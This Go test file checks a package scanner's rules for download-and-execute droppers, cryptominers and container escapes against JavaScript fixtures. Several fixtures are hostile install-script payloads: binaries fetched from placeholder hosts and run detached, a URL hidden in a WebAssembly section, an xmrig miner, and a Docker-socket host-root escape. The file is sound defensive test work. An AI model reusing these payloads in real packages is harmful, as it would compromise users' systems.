package exec

import (
	"encoding/base64"
	"strconv"
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

const dropper = `const http=require("http"),fs=require("fs"),path=require("path"),{execFileSync}=require("child_process");
const dest = path.join(process.env.TEMP, "u.exe");
http.get("http://203.0.113.9:3000/u.exe", r => { r.pipe(fs.createWriteStream(dest)); r.on("end", () => execFileSync(dest)) })`

// hintDropper downloads and starts what a configuration hidden in the
// WebAssembly module of lib/wasm_bg.js names.
const hintDropper = `const b64 = require("./wasm_bg"), fs = require("fs"), http = require("http"), { spawn } = require("child_process");
const mod = new WebAssembly.Module(Buffer.from(b64, "base64"));
const h = JSON.parse(new TextDecoder().decode(WebAssembly.Module.customSections(mod, "hint")[0]));
http.get(h.u, (res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on("finish", () => spawn(bin, [h.p], { detached: true, stdio: "ignore" }).unref()));`

// wasmWith returns, in base64, a WebAssembly module with one custom
// section "hint" holding text.
func wasmWith(text string) string {
	sec := append([]byte{4}, "hint"+text...)
	return base64.StdEncoding.EncodeToString(append([]byte("\x00asm\x01\x00\x00\x00\x00"), append([]byte{byte(len(sec))}, sec...)...))
}

const binaryInstaller = `const https=require("https"),fs=require("fs"),{execFileSync}=require("child_process");
https.get("https://registry.npm.local/@x/linux-x64/-/linux-x64-1.0.0.tgz", r => r.pipe(fs.createWriteStream("pkg.tgz")));
execFileSync(binPath, ["--version"])`

func TestDownloadExecute(t *testing.T) {
	rt.Check(t, DownloadExecute{}, []rt.Case{
		// the process module's name built at run time
		{"hidden_child_process", map[string]string{"index.js": `const res = await fetch("https://cdn.example.invalid/validator"); await require("fs/promises").writeFile(t, new Uint8Array(await res.arrayBuffer()));
const cp = await import(["node", "child", "process"].join(":").replace(/:(?=process)/, "_")); cp.spawn(t, ["--daemon"], { detached: true, stdio: "ignore" })`}, finding.SeverityCritical},
		{"named_child_process", map[string]string{"index.js": `const res = await fetch("https://cdn.example.invalid/validator"); await require("fs/promises").writeFile(t, new Uint8Array(await res.arrayBuffer()));
const cp = await import("node:child_process"); cp.spawn(t, ["--version"])`}, finding.SeverityMedium},
		// the quarantine flag stripped from an unknown host's download
		{"strips_quarantine_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://x.example.invalid/bin/helper", r => { const o = fs.createWriteStream("/tmp/.h"); r.pipe(o); o.on("finish", () => { execSync("xattr -d com.apple.quarantine /tmp/.h"); execSync("chmod +x /tmp/.h"); execSync("/tmp/.h") }) })`}, finding.SeverityCritical},
		{"strips_quarantine_trusted", map[string]string{"index.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://github.com/o/r/releases/download/v1/tool-darwin.tar.gz", r => r.pipe(fs.createWriteStream(p))); execSync("xattr -cr " + app); execSync(app)`}, finding.SeverityLow},
		// a test runner forking its workers, with a docs link in a
		// warning; the same host given to a request is a download
		{"docs_link_in_message", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch(reportUrl); fs.writeFileSync(out, await r.text()); warn("Consider running slow files in parallel. See: https://docs.example.invalid/test-parallel"); cp.fork(entry, {detached: false, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityLow},
		// a URL built at run time, fetched into a temp directory and
		// an unknown host's program started detached and silent at
		// install from a cache directory, not the temp directory
		{"install_cache_dir_detached", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const p=path.join(os.homedir(),".cache","vips","helper"); https.get("https://dl.example.invalid/helper", r => r.pipe(fs.createWriteStream(p, {mode: 0o755})).on("finish", () => spawn(p, ["--daemon"], {detached: true, stdio: "ignore"}).unref()))`}, finding.SeverityCritical},
		// the same in sight (an installer checking what it fetched runs)
		{"install_cache_dir_in_sight", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawnSync}=require("child_process"); const p=path.join(os.homedir(),".cache","vips","helper"); https.get("https://dl.example.invalid/helper", r => r.pipe(fs.createWriteStream(p, {mode: 0o755})).on("finish", () => spawnSync(p, ["--version"])))`}, finding.SeverityMedium},
		// started detached: at install a dropper, in a library low
		{"install_hidden_url_detached", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const u=String.fromCharCode(...codes); const p=path.join(os.tmpdir(),".cache-bin"); https.get(u, r => r.pipe(fs.createWriteStream(p)).on("finish", () => { fs.chmodSync(p, 0o755); spawn(p, [], {detached: true, stdio: "ignore"}).unref() }))`}, finding.SeverityCritical},
		{"library_hidden_url_detached", map[string]string{"package.json": rt.Pkg(`"main":"fetch.js"`),
			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const u=String.fromCharCode(...codes); const p=path.join(os.tmpdir(),".cache-bin"); https.get(u, r => r.pipe(fs.createWriteStream(p)).on("finish", () => { fs.chmodSync(p, 0o755); spawn(p, [], {detached: true, stdio: "ignore"}).unref() }))`}, finding.SeverityLow},
		{"docs_host_requested", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch("https://docs.example.invalid/tool"); fs.writeFileSync(out, await r.text()); warn("See: https://docs.example.invalid/tool"); cp.fork(entry, {detached: true, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityHigh},
		// a vendored tool's constants in a large file: the installer's URL
		// is never requested
		{"vendored_installer_constant", map[string]string{"index.js": `const fs=require("fs"),cp=require("child_process"); const YARN_INSTALLER_SH = "https://yarnpkg.example.invalid/install.sh"; fetch(registry + name).then(r => r.text()).then(t => fs.writeFileSync(out, t)); cp.spawn(cmd, args)
` + strings.Repeat("function pad() { return 1 }\n", 2600)}, finding.SeverityLow},
		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
		// a native module named by the constant end of a template URL
		{"template_node_module", map[string]string{"index.js": "const fs=require(\"fs\"),os=require(\"os\"),https=require(\"https\"); const dest = require(\"path\").join(os.tmpdir(), \"x.node\");\n" +
			"https.get(`https://prebuilds.example.invalid/v2/${process.platform}-${process.arch}.node`, r => { const w = fs.createWriteStream(dest); r.pipe(w); w.on(\"finish\", () => process.dlopen(m, dest)) })"}, finding.SeverityCritical},
		// a scanner fetched at install and run over the home directory
		{"scanner_over_home_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"),os=require(\"os\"); (async () => { fs.writeFileSync(\"/tmp/t.tgz\", Buffer.from(await (await fetch(`https://dl.example.invalid/th_${process.platform}.tar.gz`)).arrayBuffer()));\n" +
				"execFileSync(\"tar\", [\"-xzf\", \"/tmp/t.tgz\", \"-C\", \"/tmp\"]); fs.chmodSync(\"/tmp/th\", 0o755); execFileSync(\"/tmp/th\", [\"filesystem\", os.homedir(), \"--json\"]) })()"}, finding.SeverityCritical},
		// a second-stage package from a fake registry, unpacked and required at install
		{"stage2_tarball_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": "const fs=require(\"fs\"),path=require(\"path\"),zlib=require(\"zlib\"); (async () => { const b = Buffer.from(await (await fetch(\"https://registry.example.invalid/helper/-/helper-2.1.0.tgz\")).arrayBuffer()); const dir = fs.mkdtempSync(\"/tmp/h-\"); fs.writeFileSync(path.join(dir, \"index.js\"), untar(zlib.gunzipSync(b))); require(path.join(dir, \"index.js\")) })()"}, finding.SeverityCritical},
		// the same fallback from the project's own registry
		{"optional_dep_from_registry", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": "const fs=require(\"fs\"),path=require(\"path\"),zlib=require(\"zlib\"); (async () => { const b = Buffer.from(await (await fetch(\"https://" + rt.RegistryHost + "/@x/linux-x64/-/linux-x64-1.0.0.tgz\")).arrayBuffer()); fs.writeFileSync(path.join(dir, \"bin\"), untar(zlib.gunzipSync(b))); require(path.join(dir, \"lib.js\")) })()"}, finding.SeverityLow},
		// an engine installer checks the binary it fetched runs
		{"engine_version_check", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"); (async () => { fs.writeFileSync(bin, Buffer.from(await (await fetch(`https://binaries.engines.example.invalid/${hash}/${platform}/engine.gz`)).arrayBuffer())); fs.chmodSync(bin, 0o755); execFileSync(bin, [\"--version\"]) })()"}, finding.SeverityMedium},
		{"native_module_loaded", map[string]string{"index.js": `const https = require("https"), fs = require("fs");
https.get("https://dl.example.invalid/a.node", r => r.pipe(fs.createWriteStream("/tmp/a.node")).on("finish", () => process.dlopen({ exports: {} }, "/tmp/a.node")))`}, finding.SeverityCritical},
		{"registry_binary", map[string]string{"install.js": binaryInstaller, "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityLow},
		// The same installer fetching from a host that is not the project's
		// registry (nor a well-known download host) is not trusted.
		{"unknown_host_binary", map[string]string{"install.js": strings.Replace(binaryInstaller, "registry.npm.local", "dl.example.invalid", 1), "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityMedium},
		// an unknown host and a temp directory together: a dropper
		{"unknown_host_temp", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
const f = require("os").tmpdir() + "/svc";
https.get("https://dl.example.invalid/bin/linux", r => { const w = fs.createWriteStream(f); r.pipe(w); w.on("finish", () => { fs.chmodSync(f, 0o755); spawn(f, [], { detached: true, stdio: "ignore" }).unref() }) })`}, finding.SeverityHigh},
		// a runtime fetched into a temp directory and run in the open
		{"unknown_host_temp_visible", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
const f = require("os").tmpdir() + "/jre.tgz";
https.get("https://api.runtime.example.invalid/v3/binary/latest", r => r.pipe(fs.createWriteStream(f))); spawn("java", ["-jar", "app.jar"], { stdio: "inherit" })`}, finding.SeverityMedium},
		// a dev server requesting itself downloads nothing
		{"localhost", map[string]string{"index.js": `const http = require("http"), fs = require("fs"), { spawn } = require("child_process");
const f = require("os").tmpdir() + "/x"; http.get("http://localhost:8080/status", r => r.pipe(fs.createWriteStream(f))); spawn("open", [url])`}, finding.SeverityLow},
		// a well-known download host into a temp directory is an installer
		{"trusted_host_temp", map[string]string{"index.js": `const https = require("https"), fs = require("fs"), { execFileSync } = require("child_process");
const f = require("os").tmpdir() + "/tool";
https.get("https://github.com/o/r/releases/download/v1/tool-linux", r => r.pipe(fs.createWriteStream(f))); execFileSync(f, ["--version"])`}, finding.SeverityLow},
		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
		// a bundle: its error messages' documentation links are not downloads
		{"bundle_doc_links", map[string]string{"cli.js": bundlePad + `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
function fail() { throw new Error("see https://docs.example.invalid/errors/config for help") }
function get(u, f) { https.get(u, r => r.pipe(fs.createWriteStream(f))) }
spawn("git", ["status"])`}, finding.SeverityLow},
		// the URL read from a configuration inside an embedded binary
		// (a WebAssembly custom section) that a small module keeps
		{"url_in_embedded_binary", map[string]string{"lib/wasm_bg.js": "module.exports = " + strconv.Quote(wasmWith(`{"u":"http://198.51.100.61/x/kworkerd","p":"pool"}`)) + ";",
			"lib/loader.js": hintDropper}, finding.SeverityCritical},
		{"embedded_binary_without_url", map[string]string{"lib/wasm_bg.js": "module.exports = " + strconv.Quote(wasmWith(`{"threads":4,"simd":true}`)) + ";",
			"lib/loader.js": hintDropper}, finding.SeverityLow},
		// in the same bundle, the URL a request is given still counts
		{"bundle_requested_url", map[string]string{"cli.js": bundlePad + `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
https.get("https://dl.example.invalid/tool-linux", r => r.pipe(fs.createWriteStream("/tmp/t")));
spawn("/tmp/t")`}, finding.SeverityMedium},
	})
}

func TestCryptominer(t *testing.T) {
	rt.Check(t, Cryptominer{}, []rt.Case{
		{"spawned", map[string]string{"index.js": `require("child_process").spawn("./bin/xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level=1"])`}, finding.SeverityCritical},
		{"install_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"./xmrig -o stratum+tcp://p.invalid:3333"}`)}, finding.SeverityCritical},
		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
		// a scanner's signatures name miners in regular expressions
		{"scanner_signature", map[string]string{"index.js": `const rules = [{ id: "miner", re: /stratum\+(?:tcp|ssl):\/\/|xmrig|coinhive/i }]; exports.scan = (src) => rules.filter((r) => r.re.test(src))`}, finding.SeverityNone},
		{"miner_named_in_string_next_to_regex", map[string]string{"index.js": `const re = /xmrig/; require("child_process").spawn("xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333"])`}, finding.SeverityCritical},
		// a browser miner: payout address, algorithm, pool socket
		{"browser_payout", map[string]string{"index.js": `const W = "` + moneroTest + `";
const src = "onmessage = async e => { const m = await WebAssembly.instantiateStreaming(fetch(e.data.wasm)); const ws = new WebSocket(e.data.pool); ws.onopen = () => ws.send(JSON.stringify({method: 'login', params: {login: e.data.w, algo: ['cn/r']}})) }";
for (let i = 0; i < navigator.hardwareConcurrency; i++) new Worker(URL.createObjectURL(new Blob([src]))).postMessage({ pool: "wss://pool.example.invalid:3333", w: W })`}, finding.SeverityCritical},
		{"address_and_cpus", map[string]string{"index.js": `const W = "` + moneroTest + `"; const ws = new WebSocket("wss://p.example.invalid"); for (let i = 0; i < navigator.hardwareConcurrency; i++) start(ws, W)`}, finding.SeverityHigh},
		// a wallet library: an address in its examples, HTTP to its node
		{"wallet_library", map[string]string{"index.js": `export const EXAMPLE = "` + moneroTest + `"; export async function balance(addr) { return (await fetch("https://node.example.invalid/json_rpc", {method: "POST", body: JSON.stringify({method: "get_balance", params: {addr}})})).json() }`}, finding.SeverityNone},
		// a hashing library names the algorithm, with no payout address
		{"hash_library", map[string]string{"index.js": `export const ALGORITHMS = ["cryptonight", "randomx"]; export function hash(buf, algo) { return native.hash(buf, algo) }`}, finding.SeverityNone},
	})
}

// moneroTest is shaped like a Monero address (95 base58 characters from 4).
var moneroTest = "4" + "A" + strings.Repeat("bcdefghijk", 9) + "mno"

// bundlePad makes a file large enough to be taken for a bundle.
var bundlePad = strings.Repeat("var a = b + c;\n", 40000)

func TestContainerEscape(t *testing.T) {
	rt.Check(t, ContainerEscape{}, []rt.Case{
		{"socket_root_bind_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const http = require("http"); const body = JSON.stringify({Image: "alpine", Cmd: ["chroot", "/host", "sh"], HostConfig: {Privileged: true, Binds: ["/:/host"]}});
http.request({socketPath: "/var/run/docker.sock", path: "/containers/create", method: "POST"}).end(body)`}, finding.SeverityCritical},
		{"docker_run_root", map[string]string{"index.js": `require("child_process").execSync("docker run --rm --privileged -v /:/host alpine chroot /host sh -c id")`}, finding.SeverityHigh},
		// test containers mount the socket itself, not the host's root
		{"testcontainers_like", map[string]string{"index.js": `const binds = ["/var/run/docker.sock:/var/run/docker.sock"]; docker.createContainer({Image: "ryuk", HostConfig: {Binds: binds}}); const socketPath = "/var/run/docker.sock"`}, finding.SeverityNone},
		{"project_volume", map[string]string{"index.js": `require("child_process").spawn("docker", ["run", "--rm", "-v", process.cwd() + ":/src", "node:20", "npm", "test"])`}, finding.SeverityNone},
	})
}
